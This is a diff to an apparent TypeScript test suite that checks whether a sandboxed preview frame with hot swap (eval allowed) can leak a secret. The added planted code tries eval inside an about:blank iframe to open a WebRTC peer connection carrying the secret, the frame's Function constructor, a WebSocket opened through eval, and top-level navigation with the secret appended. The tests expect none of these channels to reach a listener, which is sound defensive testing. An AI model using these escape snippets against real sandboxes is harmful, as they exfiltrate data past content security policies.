@@ -109,6 +109,21 @@ function plantedAtom(): string {
     document.body.appendChild(document.createElement('iframe'));
     return rtc(window[window.length - 1].RTCPeerConnection);
   });
+  // With hot swap the frame may evaluate code ('unsafe-eval', csp.ts): evaluated code must find no realm without the lockdown.
+  attempt('eval in an about:blank frame', function () {
+    var f = document.createElement('iframe');
+    document.body.appendChild(f);
+    return f.contentWindow.eval('var p = new RTCPeerConnection({ iceServers: [{ urls: "stun:${udpAt}" }] }); p.createDataChannel("' + secret + '"); p.createOffer().then(function (o) { return p.setLocalDescription(o); })');
+  });
+  attempt('the Function constructor of an about:blank frame', function () {
+    var f = document.createElement('iframe');
+    document.body.appendChild(f);
+    return rtc(new f.contentWindow.Function('return RTCPeerConnection')());
+  });
+  attempt('eval and new Function here', function () {
+    eval('new WebSocket("ws://127.0.0.1:${tcpPort}/eval")');
+    return rtc(new Function('return this.RTCPeerConnection || self.RTCPeerConnection')());
+  });
   attempt('top navigation', function () { top.location.href = '${http}/top?' + secret; });
   console.log('planted: tried every channel');
   setTimeout(function () {
@@ -121,8 +136,8 @@ planted_atom();
 }
 
 /** The webview's page or the game's: `csp` in front, and the frame mounted by media/shared/frame.ts. */
-function hostPage(csp: string, page: string | null, bundle: string): string {
-  const args = JSON.stringify({ page, bundle }).replace(/</g, '\\u003c');
+function hostPage(csp: string, page: string | null, bundle: string, hotSwap = false): string {
+  const args = JSON.stringify({ page, bundle, hotSwap }).replace(/</g, '\\u003c');
   return `<!doctype html><html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="${csp}"></head>
 <body><div id="stage"></div><script src="/mount.js"></script><script src="/go.js?args=${encodeURIComponent(args)}"></script></body></html>`;
 }
@@ -150,7 +165,7 @@ before(async () => {
   const mount = await esbuild.build({
     stdin: {
       contents: `import { mountBundleFrame } from './media/shared/frame.js';
-        window.mountPlanted = (page, bundle) => mountBundleFrame(document.getElementById('stage'), undefined, page, bundle, 'planted');`,
+        window.mountPlanted = (page, bundle, hotSwap) => mountBundleFrame(document.getElementById('stage'), undefined, page, bundle, 'planted', hotSwap === true);`,
       resolveDir: root,
       loader: 'ts',
     },
@@ -167,7 +182,7 @@ before(async () => {
     if (url.pathname === '/mount.js') return void res.writeHead(200, { 'Content-Type': 'text/javascript; charset=utf-8' }).end(mountJs);
     if (url.pathname === '/go.js') {
       const args = url.searchParams.get('args') ?? '{}';
-      return void res.writeHead(200, { 'Content-Type': 'text/javascript; charset=utf-8' }).end(`var a = ${args}; window.mountPlanted(a.page, a.bundle);`);
+      return void res.writeHead(200, { 'Content-Type': 'text/javascript; charset=utf-8' }).end(`var a = ${args}; window.mountPlanted(a.page, a.bundle, a.hotSwap);`);
     }
     const html = hostPages.get(url.pathname);
     if (!html) return void res.writeHead(404).end();
@@ -222,6 +237,11 @@ describe('the preview sends nothing out: WebRTC, WebTransport, nested frames, na
     assert.deepEqual(await run(`http://127.0.0.1:${hostPort}/webview-own-page`), []);
   });
 
+  it("the editor's live preview with hot swap on (eval allowed in the frame) reaches no listener", async () => {
+    hostPages.set('/webview-hot', hostPage(webviewCsp(`http://127.0.0.1:${hostPort}`, true), null, plantedAtom(), true));
+    assert.deepEqual(await run(`http://127.0.0.1:${hostPort}/webview-hot`), []);
+  });
+
   it('the MCP Apps game (the same frame under game.html) reaches no listener', async () => {
     const gamePolicy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(readFileSync(join(root, 'media', 'apps', 'game.html'), 'utf8'))![1]!;
     // game.html's own policy, with this host's scripts admitted in place of the app's inline code.
@@ -232,7 +252,7 @@ describe('the preview sends nothing out: WebRTC, WebTransport, nested frames, na
 
   it('the loopback browser preview reaches no listener', async () => {
     const bundle = plantedAtom();
-    const server = await PreviewServer.start({ bundle: () => bundle, page: () => null });
+    const server = await PreviewServer.start({ bundle: () => bundle, page: () => null, hotSwap: () => true });
     const reports: string[] = [];
     server.onDidReport((r) => reports.push(r.kind === 'console' ? r.text : r.message));
     try {
